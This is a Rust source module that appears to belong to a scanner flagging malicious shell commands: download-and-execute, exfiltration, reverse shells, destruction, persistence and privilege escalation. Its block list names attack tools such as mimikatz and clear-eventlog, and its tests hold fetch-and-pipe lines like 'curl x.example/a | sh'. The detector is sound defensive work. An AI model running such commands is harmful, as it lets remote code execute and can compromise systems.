//! What no ordinary command does: one file a kind.

mod code;
mod destruction;
mod disguise;
mod execution;
mod exfiltration;
mod guards;
mod persistence;
mod privilege;
mod reverse_shell;
mod windows;

use std::borrow::Cow;
use std::ops::Range;

pub(in crate::threats::code::shell) use execution::takes_code;
pub(in crate::threats::code::shell) use persistence::is_startup;

use super::flow::{self, Data, Part};
use super::script::{Call, Command, Joined, RedirectKind, Script};

/// A script with what its commands run and what flows through it.
pub(super) struct Scene<'s> {
    pub(super) script: &'s Script<'s>,
    pub(super) calls: Vec<Call<'s>>,
    pub(super) parts: Vec<Part>,
    /// The command that pipes into each.
    feeders: Vec<Option<usize>>,
    /// Whether a pipe with a name is made anywhere.
    pub(super) makes_pipe: bool,
    /// Variables that hold what must not leave the machine.
    pub(super) tainted: Vec<&'s str>,
}

/// One command of a scene.
#[derive(Clone, Copy)]
pub(super) struct At<'s> {
    pub(super) scene: &'s Scene<'s>,
    pub(super) index: usize,
}

/// The checks, each of one command in its scene.
const CHECKS: &[fn(At<'_>) -> bool] = &[
    execution::is_download,
    execution::is_decoded,
    exfiltration::check,
    reverse_shell::check,
    destruction::check,
    guards::check,
    persistence::check,
    privilege::check,
    disguise::check,
    code::check,
    windows::check,
];

impl<'s> Scene<'s> {
    pub(super) fn new(script: &'s Script<'s>) -> Self {
        let calls: Vec<Call<'s>> = script.commands.iter().map(Command::call).collect();
        let parts = flow::of(script, &calls);
        let makes_pipe = calls.iter().any(|call| call.is(&["mkfifo"]) || call.is(&["mknod"]) && call.has(&["p"]));
        let feeders = feeders(script);
        let mut scene = Self { script, calls, parts, feeders, makes_pipe, tainted: Vec::new() };
        scene.tainted = exfiltration::tainted(&scene);
        scene
    }

    /// Where something is that no ordinary command does.
    pub(super) fn find(&self) -> Option<Range<usize>> {
        let commands = || (0..self.script.commands.len()).map(|index| At { scene: self, index });
        let judged = commands().filter(|at| !at.says_nothing());
        let found = { judged }.find(|at| CHECKS.iter().any(|check| check(*at))).map(|at| at.index);
        let found = found.or_else(|| execution::runs_what_it_wrote(self)).or_else(|| destruction::is_bomb(self))?;
        Some(self.script.commands[found].span.clone())
    }

    /// Texts in it that a shell will run in turn, with the command that hands them over.
    pub(super) fn inner(&'s self) -> Vec<(usize, Cow<'s, str>)> {
        let mut inner = Vec::new();
        for index in 0..self.script.commands.len() {
            execution::inner(At { scene: self, index }, &mut |text| inner.push((index, text)));
        }
        inner
    }
}

/// The command before each in its pipeline.
fn feeders(script: &Script<'_>) -> Vec<Option<usize>> {
    let pipelines = script.commands.iter().map(|command| command.pipeline).max().unwrap_or_default();
    let mut last = vec![None; pipelines + 1];
    let feeder = |(index, command): (usize, &Command<'_>)| {
        let before = last[command.pipeline].replace(index);
        before.filter(|_| command.joined == Joined::Pipe)
    };
    script.commands.iter().enumerate().map(feeder).collect()
}

impl<'s> At<'s> {
    pub(super) fn command(&self) -> &'s Command<'s> {
        &self.scene.script.commands[self.index]
    }

    pub(super) fn call(&self) -> &'s Call<'s> {
        &self.scene.calls[self.index]
    }

    pub(super) fn part(&self) -> Part {
        self.scene.parts[self.index]
    }

    /// Whether it is a name alone, which nothing is handed to and nothing is made of: a text may be full of them, and no
    /// check asks for more than a few.
    fn says_nothing(&self) -> bool {
        let (command, part) = (self.command(), self.part());
        let [name] = &command.words[..] else { return false };
        let is_name = |byte: &u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || matches!(byte, b'-' | b'_');
        command.assignments.is_empty()
            && command.redirects.is_empty()
            && !name.is_hidden
            && name.raw == name.text
            && name.raw.as_bytes().iter().all(is_name)
            && self.feeder().is_none()
            && part.piped == Data::default()
            && part.in_words() == Data::default()
            && !ALONE.contains(&name.raw)
    }

    /// The command that pipes into this one.
    pub(super) fn feeder(&self) -> Option<At<'s>> {
        self.scene.feeders[self.index].map(|index| At { index, ..*self })
    }

    /// Where what it gives is written to: by redirection or by `tee`.
    pub(super) fn written(&self) -> impl Iterator<Item = &'s str> + use<'s> {
        let is_out = |kind| matches!(kind, RedirectKind::Out | RedirectKind::Append | RedirectKind::Both);
        let redirects = self.command().redirects.iter().filter(move |redirect| is_out(redirect.kind));
        let call = self.call();
        let by_tee = call.is(&["tee", "sponge"]).then(|| call.operands().map(|word| &*word.text));
        redirects.map(|redirect| &*redirect.target.text).chain(by_tee.into_iter().flatten())
    }

    /// Whether what a substitution gives stands in one of its words.
    pub(super) fn has_substitution(&self, mut in_word: impl FnMut(&str) -> bool) -> bool {
        self.call().args().iter().any(|word| word.text.contains("$()") && in_word(&word.text))
    }
}

/// The commands whose name alone is an attack, or a part of one.
const ALONE: &[&str] = &[
    "aa-disable",
    "aa-teardown",
    "clear-eventlog",
    "iex",
    "invoke-expression",
    "killall5",
    "mimikatz",
    "remove-eventlog",
    "ztcp",
];

/// Shells, by their programs' names.
pub(super) const SHELLS: &[&str] =
    &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh", "mksh", "rbash", "pwsh", "powershell", "cmd", "su"];

/// Whether a program runs a language's code.
pub(super) fn is_interpreter(name: &str) -> bool {
    let stem = name.trim_end_matches(|last: char| last.is_ascii_digit() || last == '.');
    matches!(
        stem,
        "python"
            | "pypy"
            | "perl"
            | "ruby"
            | "node"
            | "nodejs"
            | "php"
            | "lua"
            | "luajit"
            | "deno"
            | "bun"
            | "osascript"
            | "tclsh"
            | "ipython"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::threats::code::shell::names::COMMANDS;
    use crate::threats::code::shell::tokens;

    /// How many checks a script's last command does not pass, asked even where it says nothing.
    fn failed(script: &Script<'_>) -> usize {
        let scene = Scene::new(script);
        let last = At { scene: &scene, index: script.commands.len() - 1 };
        CHECKS.iter().filter(|check| check(last)).count()
    }

    #[test]
    fn what_is_not_asked_would_pass() {
        let lists =
            [COMMANDS, SHELLS, flow::FETCHERS, &["nc", "ncat", "socat", "at", "batch", "crontab", "history", "mkfs"]];
        for name in lists.concat() {
            for text in [name.to_owned(), format!("curl -s x.example/a; {name}"), format!("cd /; mkfifo p; env; {name}")] {
                let script = tokens::read(&text);
                let scene = Scene::new(&script);
                let last = At { scene: &scene, index: script.commands.len() - 1 };
                assert!(!last.says_nothing() || failed(&script) == 0, "{text}");
            }
        }
    }

    #[test]
    fn names_that_are_enough_are_asked() {
        for text in [
            "aa-teardown",
            "killall5",
            "mimikatz",
            "clear-eventlog",
            "ztcp",
            "curl x.example/a | sh",
            "(curl x.example/a) | { cd x; sh; }",
        ] {
            let script = tokens::read(text);
            assert!(Scene::new(&script).find().is_some(), "{text}");
        }
    }
}
